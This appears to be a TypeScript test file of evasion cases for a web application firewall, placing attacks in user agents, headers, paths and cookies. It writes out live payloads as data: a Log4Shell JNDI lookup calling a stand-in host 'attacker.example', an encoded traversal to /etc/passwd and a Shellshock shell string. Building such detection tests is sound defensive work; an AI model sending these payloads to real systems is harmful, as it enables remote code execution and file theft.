/** Requests whose only attack stands where a phase that needs a body or a query never comes. */
import { type EvasionCase, percentEncoded, scriptAttack } from '../evasion-case.ts';

/** Expands to a look-up at an attacker's directory in a logger. */
const lookUp = ['$', '{jndi:ldap://attacker.example/a}'].join('');

export const placeCases: readonly EvasionCase[] = [
  {
    source: 'W 0.3',
    trick: 'a GET without query from a scanner',
    attack: 'sqlmap/1.8#stable (https://sqlmap.org)',
    request: (payload) => ({ headers: [['user-agent', payload]] }),
  },
  {
    source: 'W 0.3',
    trick: 'a GET without query, a look-up in the user agent',
    attack: lookUp,
    request: (payload) => ({ headers: [['user-agent', payload]] }),
  },
  {
    source: 'W 0.3',
    trick: 'a GET without query, an encoded traversal in the path',
    attack: '..%2f..%2f..%2fetc%2fpasswd',
    request: (payload) => ({ path: `/static/${payload.replaceAll(' ', '%20')}` }),
  },
  {
    source: 'W 0.3',
    trick: 'a GET whose query is the attack, without any body message',
    request: (payload) => ({ path: `/?q=${percentEncoded(payload)}` }),
  },
  {
    source: 'W 0.3',
    trick: 'a DELETE whose query is the attack',
    request: (payload) => ({ method: 'DELETE', path: `/?q=${percentEncoded(payload)}` }),
  },
  {
    source: 'E 4.1',
    trick: 'the query of a request that announces a body',
    request: (payload) => ({
      path: `/?q=${percentEncoded(payload)}`,
      headers: [['content-type', 'application/x-www-form-urlencoded']],
      body: 'a=1',
    }),
  },
  {
    source: 'D 3.7',
    trick: 'SQL in a segment of the path',
    request: (payload) => ({ path: `/items/${percentEncoded(payload)}` }),
    // The rule set looks for SQL in arguments and cookies only.
    rules: ['baseline'],
  },
  {
    source: 'D 3.7',
    trick: 'markup in a segment of the path',
    attack: scriptAttack,
    request: (payload) => ({ path: `/items/${percentEncoded(payload)}` }),
  },
  {
    source: 'D 3.7',
    trick: 'SQL in a cookie',
    request: (payload) => ({ headers: [['cookie', `q=${percentEncoded(payload)}`]] }),
  },
  {
    source: 'W 0.3',
    trick: 'a look-up in a header of any name',
    attack: lookUp,
    request: (payload) => ({ headers: [['x-tenant', payload]] }),
  },
  {
    source: 'W 0.3',
    trick: 'a shell function in a header of any name',
    attack: '() { :;}; /bin/sh -c id',
    request: (payload) => ({ headers: [['x-note', payload]] }),
  },
];
